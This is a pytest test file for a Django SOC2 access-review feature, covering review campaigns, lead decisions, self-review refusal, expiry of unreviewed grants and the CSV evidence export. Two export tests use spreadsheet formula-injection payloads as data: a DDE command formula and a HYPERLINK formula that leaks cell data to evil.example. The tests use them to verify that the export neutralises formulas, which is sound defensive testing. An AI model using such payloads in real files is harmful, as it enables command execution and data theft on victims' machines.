"""Access reviews (SOC2): a campaign snapshots every grant, team leads confirm or revoke their team's,
nobody reviews their own access, and what is left unreviewed by the deadline is revoked and kept as evidence."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from datetime import timedelta

import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from django.http import Http404
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from access import services
from access.audit import services as audit
from access.models import AccessReview, AccessReviewItem, AuditEvent, Grant, Role, Team, User
from access.permissions import BuiltinRole
from portal.demo import Persona
from tests.factories import GrantFactory, TeamFactory, UserFactory
from tests.helpers import FORMULA_PAYLOADS, formulas_in, queries_for

ClientFor = Callable[[Persona | None], Client]
pytestmark = pytest.mark.shared_demo


def user(username: str) -> User:
    return User.objects.get(username=username)


def team(slug: str) -> Team:
    return Team.objects.get(slug=slug)


def open_review(name: str = "Q4 review", days: int = 14) -> AccessReview:
    return services.access_review_open(actor=user("admin"), name=name, deadline=timezone.now() + timedelta(days=days))


def item_for(review: AccessReview, grant: Grant) -> AccessReviewItem:
    return review.items.get(grant=grant)


def keep_lead_and_auditor(review: AccessReview) -> None:
    """The admin confirms the lead's and the auditor's grants, so closing the review leaves them their access."""
    for username in ("lead", "auditor"):
        item = item_for(review, Grant.objects.get(user__username=username))
        services.access_review_decide(actor=user("admin"), item_id=item.pk, decision="confirmed")


def overdue(review: AccessReview) -> None:
    AccessReview.objects.filter(pk=review.pk).update(deadline=timezone.now() - timedelta(minutes=1))


def test_opening_a_review_snapshots_every_active_grant_for_the_team_it_concerns(demo: None) -> None:
    revoked = GrantFactory.create(revoked_at=timezone.now())
    in_tutor_tools = GrantFactory.create(user=UserFactory.create(), team=team("tutor-tools"))

    review = open_review()

    active = Grant.objects.active()
    assert set(review.items.values_list("grant_id", flat=True)) == set(active.values_list("pk", flat=True))
    assert not review.items.filter(grant=revoked).exists()
    assert item_for(review, in_tutor_tools).team == team("tutor-tools")
    team_grant = Grant.objects.get(grantee_team__slug="admin-apps")
    assert item_for(review, team_grant).team == team("admin-apps")
    # The admin's global grant concerns no team limit, but the admin is in Core Platform.
    assert item_for(review, Grant.objects.get(user__username="admin")).team == team("core-platform")
    # The manager is in no team: the platform bucket, for platform admins.
    assert item_for(review, Grant.objects.get(user__username="manager")).team is None
    assert item_for(review, in_tutor_tools).snapshot["scope"] == "team Tutor Tools"
    assert AuditEvent.objects.filter(verb=audit.REVIEW_OPENED, object_id=str(review.pk)).exists()


def test_opening_the_same_campaign_twice_opens_one(demo: None) -> None:
    first = open_review("SOC2 Q4")
    second = open_review("SOC2 Q4")

    assert first.pk == second.pk
    assert AccessReview.objects.count() == 1
    assert AuditEvent.objects.filter(verb=audit.REVIEW_OPENED).count() == 1


def test_a_deadline_in_the_past_is_refused(demo: None) -> None:
    with pytest.raises(ValidationError, match="future"):
        services.access_review_open(actor=user("admin"), name="Late", deadline=timezone.now() - timedelta(days=1))


def test_only_an_admin_opens_a_review(demo: None) -> None:
    with pytest.raises(PermissionDenied):
        services.access_review_open(actor=user("auditor"), name="Mine", deadline=timezone.now() + timedelta(days=1))

    assert not AccessReview.objects.exists()


def test_a_lead_confirms_and_revokes_their_teams_grants(demo: None) -> None:
    member = UserFactory.create()
    kept = GrantFactory.create(user=member, team=team("student-experience"))
    dropped = GrantFactory.create(user=UserFactory.create(), team=team("student-experience"))
    review = open_review()
    lead = user("lead")

    services.access_review_decide(actor=lead, item_id=item_for(review, kept).pk, decision="confirmed", note="")
    services.access_review_decide(
        actor=lead, item_id=item_for(review, dropped).pk, decision="revoked", note="Left the team."
    )

    dropped.refresh_from_db()
    assert Grant.objects.get(pk=kept.pk).is_active
    assert dropped.revoked_at is not None
    assert dropped.revoked_by == lead
    assert "Left the team." in dropped.revoke_reason
    assert AuditEvent.objects.filter(verb=audit.REVIEW_DECIDED, actor=lead).count() == 2
    assert AuditEvent.objects.get(verb=audit.GRANT_REVOKED, object_id=str(dropped.pk)).actor == lead


def test_repeating_a_decision_is_harmless_and_changing_it_is_refused(demo: None) -> None:
    grant = GrantFactory.create(team=team("student-experience"))
    review = open_review()
    item = item_for(review, grant)
    lead = user("lead")

    services.access_review_decide(actor=lead, item_id=item.pk, decision="confirmed")
    services.access_review_decide(actor=lead, item_id=item.pk, decision="confirmed")

    assert AuditEvent.objects.filter(verb=audit.REVIEW_DECIDED).count() == 1
    with pytest.raises(ValidationError, match="already confirmed"):
        services.access_review_decide(actor=lead, item_id=item.pk, decision="revoked", note="Changed my mind.")


def test_revoking_needs_a_note(demo: None) -> None:
    grant = GrantFactory.create(team=team("student-experience"))
    review = open_review()

    with pytest.raises(ValidationError, match="Say why"):
        services.access_review_decide(actor=user("lead"), item_id=item_for(review, grant).pk, decision="revoked")


def test_nobody_reviews_their_own_grant(demo: None) -> None:
    review = open_review()
    leads_own = item_for(review, Grant.objects.get(user__username="lead"))

    with pytest.raises(PermissionDenied, match="Nobody reviews their own access"):
        services.access_review_decide(actor=user("lead"), item_id=leads_own.pk, decision="confirmed")

    services.access_review_decide(actor=user("admin"), item_id=leads_own.pk, decision="confirmed")
    assert AccessReviewItem.objects.get(pk=leads_own.pk).decided_by == user("admin")


def test_a_lead_cannot_decide_another_teams_item_which_answers_404(client_for: ClientFor) -> None:
    elsewhere = GrantFactory.create(team=team("tutor-tools"))
    review = open_review()
    item = item_for(review, elsewhere)

    response = client_for(Persona.TEAM_LEAD).post(
        reverse("access:review_item_decide", args=[item.pk]), {"decision": "revoked", "note": "Not mine."}
    )

    assert response.status_code == 404
    assert AccessReviewItem.objects.get(pk=item.pk).decision == AccessReviewItem.Decision.PENDING
    assert Grant.objects.get(pk=elsewhere.pk).is_active


def test_the_platform_bucket_is_decided_by_platform_admins_only(demo: None) -> None:
    review = open_review()
    managers = item_for(review, Grant.objects.get(user__username="manager"))

    with pytest.raises(Http404):
        services.access_review_decide(actor=user("lead"), item_id=managers.pk, decision="confirmed")
    services.access_review_decide(actor=user("admin"), item_id=managers.pk, decision="confirmed")


def test_closing_after_the_deadline_revokes_what_is_unreviewed_and_keeps_the_evidence(demo: None) -> None:
    confirmed = GrantFactory.create(team=team("student-experience"))
    unreviewed = GrantFactory.create(team=team("tutor-tools"))
    review = open_review()
    services.access_review_decide(
        actor=user("lead"), item_id=item_for(review, confirmed).pk, decision="confirmed", note="Still needed."
    )
    overdue(review)

    closed = services.access_reviews_expire_overdue()

    review.refresh_from_db()
    unreviewed.refresh_from_db()
    assert closed == [review.pk]
    assert review.status == AccessReview.Status.CLOSED
    assert unreviewed.revoked_at is not None
    assert "Unreviewed by the deadline" in unreviewed.revoke_reason
    assert Grant.objects.get(pk=confirmed.pk).is_active
    assert review.outcome["counts"]["confirmed"] == 1
    assert review.outcome["counts"]["expired"] == review.items.count() - 1
    decision = next(row for row in review.outcome["decisions"] if row["grant_id"] == confirmed.pk)
    assert decision["decided_by"] == "lead"
    assert decision["note"] == "Still needed."
    assert decision["decided_at"]
    assert AuditEvent.objects.filter(verb=audit.REVIEW_CLOSED, object_id=str(review.pk)).exists()


def test_the_sweep_leaves_reviews_before_their_deadline_alone_and_is_safe_to_repeat(demo: None) -> None:
    future = open_review("Not yet")
    past = open_review("Past")
    overdue(past)

    assert services.access_reviews_expire_overdue() == [past.pk]
    assert services.access_reviews_expire_overdue() == []
    assert AccessReview.objects.get(pk=future.pk).status == AccessReview.Status.OPEN
    assert AuditEvent.objects.filter(verb=audit.REVIEW_CLOSED).count() == 1


def test_decisions_on_a_closed_review_are_refused(demo: None) -> None:
    grant = GrantFactory.create(team=team("student-experience"))
    review = open_review()
    keep_lead_and_auditor(review)
    services.access_review_close(actor=user("admin"), review_id=review.pk)
    item = item_for(review, grant)

    with pytest.raises(ValidationError, match="closed"):
        services.access_review_decide(actor=user("lead"), item_id=item.pk, decision="confirmed")


def test_closing_revokes_even_an_admins_unreviewed_grant(demo: None) -> None:
    # Separation of duties: only another admin may confirm an admin's grant. Left pending, it expires
    # like any other; the break-glass superuser is the way back in (docs/access.md, "Access reviews").
    review = open_review()

    services.access_review_close(actor=user("admin"), review_id=review.pk)

    assert not Grant.objects.active().filter(user__username="admin").exists()


def test_the_beat_schedule_runs_the_sweep(settings: object) -> None:
    schedule = settings.CELERY_BEAT_SCHEDULE  # type: ignore[attr-defined]

    assert any(entry["task"] == "access.tasks.expire_overdue_reviews" for entry in schedule.values())


# --- pages ---------------------------------------------------------------------------


def test_a_lead_sees_their_pending_items_but_not_their_own_and_confirms_one_in_place(client_for: ClientFor) -> None:
    member_grant = GrantFactory.create(user=UserFactory.create(username="teammate"), team=team("student-experience"))
    GrantFactory.create(user=UserFactory.create(username="stranger"), team=team("tutor-tools"))
    review = open_review()
    client = client_for(Persona.TEAM_LEAD)

    page = client.get(reverse("access:my_reviews")).content.decode()
    response = client.post(
        reverse("access:review_item_decide", args=[item_for(review, member_grant).pk]),
        {"decision": "confirmed", "note": ""},
        headers={"HX-Request": "true"},
    )

    assert "teammate" in page
    assert "stranger" not in page
    assert "Demo team lead." not in page  # the lead's own grant waits for someone else
    assert response.status_code == 200
    assert b"<html" not in response.content
    assert b"Confirmed" in response.content


def test_a_revoke_without_a_note_shows_the_message_in_place(client_for: ClientFor) -> None:
    grant = GrantFactory.create(team=team("student-experience"))
    review = open_review()

    response = client_for(Persona.TEAM_LEAD).post(
        reverse("access:review_item_decide", args=[item_for(review, grant).pk]),
        {"decision": "revoked", "note": ""},
        headers={"HX-Request": "true"},
    )

    assert b"Say why this access is revoked" in response.content
    assert Grant.objects.get(pk=grant.pk).is_active


def test_an_admin_opens_a_review_from_the_page(client_for: ClientFor) -> None:
    deadline = (timezone.localtime() + timedelta(days=10)).strftime("%Y-%m-%dT%H:%M")

    response = client_for(Persona.PLATFORM_ADMIN).post(
        reverse("access:review_open"), {"name": "SOC2 Q4", "deadline": deadline}
    )

    review = AccessReview.objects.get(name="SOC2 Q4")
    assert response.headers["Location"] == reverse("access:review", args=[review.pk])
    assert review.items.exists()


def test_the_campaign_page_shows_progress_per_team_and_the_evidence_once_closed(client_for: ClientFor) -> None:
    review = open_review()
    keep_lead_and_auditor(review)
    services.access_review_close(actor=user("admin"), review_id=review.pk)

    page = client_for(Persona.AUDITOR).get(reverse("access:review", args=[review.pk])).content.decode()

    assert "Student Experience" in page
    assert "Platform (grants on no team)" in page
    assert "expired unreviewed" in page.lower()
    assert "Closed" in page


def test_the_evidence_exports_as_csv_with_every_decision(client_for: ClientFor) -> None:
    grant = GrantFactory.create(team=team("student-experience"), reason="=cmd|' /C calc'!A0")
    review = open_review()
    services.access_review_decide(
        actor=user("lead"), item_id=item_for(review, grant).pk, decision="revoked", note="No longer needed."
    )
    keep_lead_and_auditor(review)
    services.access_review_close(actor=user("admin"), review_id=review.pk)

    response = client_for(Persona.AUDITOR).get(reverse("access:review_evidence", args=[review.pk]))
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))

    assert response["Content-Type"].startswith("text/csv")
    assert len(rows) == review.items.count()
    revoked = next(row for row in rows if row["decision"] == "revoked")
    assert revoked["decided_by"] == "lead"
    assert revoked["note"] == "No longer needed."
    assert revoked["reason"].startswith("'=")  # no formula reaches a spreadsheet


def test_the_evidence_writes_no_reason_a_spreadsheet_of_any_locale_would_run(client_for: ClientFor) -> None:
    for payload in FORMULA_PAYLOADS:
        GrantFactory.create(team=team("student-experience"), reason=payload)
    review = open_review()

    response = client_for(Persona.AUDITOR).get(reverse("access:review_evidence", args=[review.pk]))

    text = response.content.decode()
    assert formulas_in(text) == []
    reasons = {row["reason"] for row in csv.DictReader(io.StringIO(text, newline=""))}
    assert 'x;\'=HYPERLINK("https://evil.example/?leak="&A1,"Open")' in reasons


def test_the_campaign_list_runs_the_same_number_of_queries_after_20_more_reviews(client_for: ClientFor) -> None:
    client = client_for(Persona.AUDITOR)
    open_review()
    before = queries_for(client, reverse("access:reviews"))
    for number in range(20):
        open_review(f"Review {number}")

    assert queries_for(client, reverse("access:reviews")) == before


def test_my_reviews_runs_the_same_number_of_queries_after_20_more_items(client_for: ClientFor) -> None:
    client = client_for(Persona.PLATFORM_ADMIN)
    open_review("First")
    before = queries_for(client, reverse("access:my_reviews"))
    GrantFactory.create_batch(20, team=TeamFactory.create(), role=Role.objects.get(slug=BuiltinRole.DEVELOPER))
    open_review("Second")

    assert queries_for(client, reverse("access:my_reviews")) == before
